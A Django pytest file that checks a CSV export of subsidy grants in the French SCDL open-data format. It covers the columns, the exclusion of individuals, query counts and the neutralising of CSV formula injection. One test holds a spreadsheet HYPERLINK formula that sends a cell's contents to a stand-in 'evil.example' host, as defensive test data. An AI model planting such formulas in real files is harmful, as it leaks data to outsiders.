"""The grants of the calls as open data, in the SCDL "subventions" format."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from calls.models import Grant, Instalment
from calls.opendata import SCDL_COLUMNS
from tests.factories import ApplicationFactory, CallFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

URL = "/donnees/subventions.csv"


def _grant(call, number: int, *, structure=None, amount="4500", instalments=2):
    application = ApplicationFactory(
        call=call,
        state="accepted",
        reference=f"{call.reference_prefix}-2026-{number:04d}",
        submitted_at=timezone.now() - timedelta(days=60),
        carrier_kind="association" if structure else "individual",
        carrier_structure=structure,
        carrier_name="" if structure else "Léa Dubois",
        title=f"Projet {number}",
        requested_amount=Decimal("5000"),
        granted_amount=Decimal(amount),
    )
    grant = Grant.objects.create(application=application, amount=Decimal(amount))
    for kind, due in (("advance", date(2026, 4, 1)), ("balance", date(2026, 12, 15)))[:instalments]:
        Instalment.objects.create(grant=grant, kind=kind, amount=Decimal(amount) / 2, due_date=due)
    return grant


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def test_grants_to_structures_are_published_in_the_scdl_columns(client, dept92):
    dept92.siret = "22920001500019"
    dept92.save()
    call = CallFactory(department=dept92, title="Initiatives jeunes solidaires 2026")
    association = OrganisationFactory(
        department=dept92, name="Jeunes solidaires du 92", rna="W922000123", siret=""
    )
    _grant(call, 1, structure=association)
    _grant(call, 2)  # to an individual: personal data, never published

    response = client.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _rows(response)
    assert list(rows[0]) == [column.name for column in SCDL_COLUMNS]
    assert len(rows) == 1
    row = rows[0]
    assert row["nomAttribuant"] == "Département des Hauts-de-Seine"
    assert row["idAttribuant"] == "22920001500019"
    assert row["nomBeneficiaire"] == "Jeunes solidaires du 92"
    assert row["rnaBeneficiaire"] == "W922000123"
    assert row["montant"] == "4500.00"
    assert row["conditionsVersement"] == "échelonné"
    assert row["datesPeriodeVersement"] == "2026-04-01/2026-12-15"
    assert row["notificationUE"] == "non" and row["pourcentageSubvention"] == "1.00"
    assert row["referenceDecision"].endswith("-2026-0001")
    assert row["dispositifAide"] == "Initiatives jeunes solidaires 2026"


@pytest.mark.parametrize("count", [1, 12])
def test_the_download_does_not_grow_in_queries(client, dept92, count, django_assert_num_queries):
    call = CallFactory(department=dept92)
    association = OrganisationFactory(department=dept92)
    for number in range(count):
        _grant(call, number + 1, structure=association, instalments=1)

    with django_assert_num_queries(1):  # the grants with their application, call and structure
        rows = _rows(client.get(URL))

    assert len(rows) == count
    assert {row["conditionsVersement"] for row in rows} == {"unique"}


def test_the_open_data_page_documents_the_grants(client):
    page = client.get("/donnees/").content.decode()
    assert URL in page
    assert "dispositifAide" in page


def test_texts_that_look_like_formulas_are_neutralised_and_the_rest_stays_raw(client, dept92):
    dept92.siret = "22920001500019"
    dept92.save()
    call = CallFactory(department=dept92, title="+Appel 2026")
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
    association = OrganisationFactory(
        department=dept92, name=formula, rna="W922000123", siret="12345678900011"
    )
    grant = _grant(call, 1, structure=association)
    grant.application.title = "-\tProjet"
    grant.application.save()
    other = OrganisationFactory(department=dept92, name="\rCR", siret="")
    _grant(call, 2, structure=other)

    first, second = _rows(client.get(URL))

    assert first["nomBeneficiaire"] == "'" + formula
    assert first["nomAttribuant"] == "Département des Hauts-de-Seine"
    assert first["dispositifAide"] == "'+Appel 2026"
    assert first["objet"] == "'-\tProjet"
    assert second["nomBeneficiaire"] == "'\rCR"
    # Numbers, dates and identifiers are untouched.
    assert first["idAttribuant"] == "22920001500019"
    assert first["idBeneficiaire"] == "12345678900011"
    assert first["rnaBeneficiaire"] == "W922000123"
    assert first["montant"] == "4500.00"
    assert first["datesPeriodeVersement"] == "2026-04-01/2026-12-15"
    assert first["dateConvention"] == timezone.localtime(grant.created_at).date().isoformat()
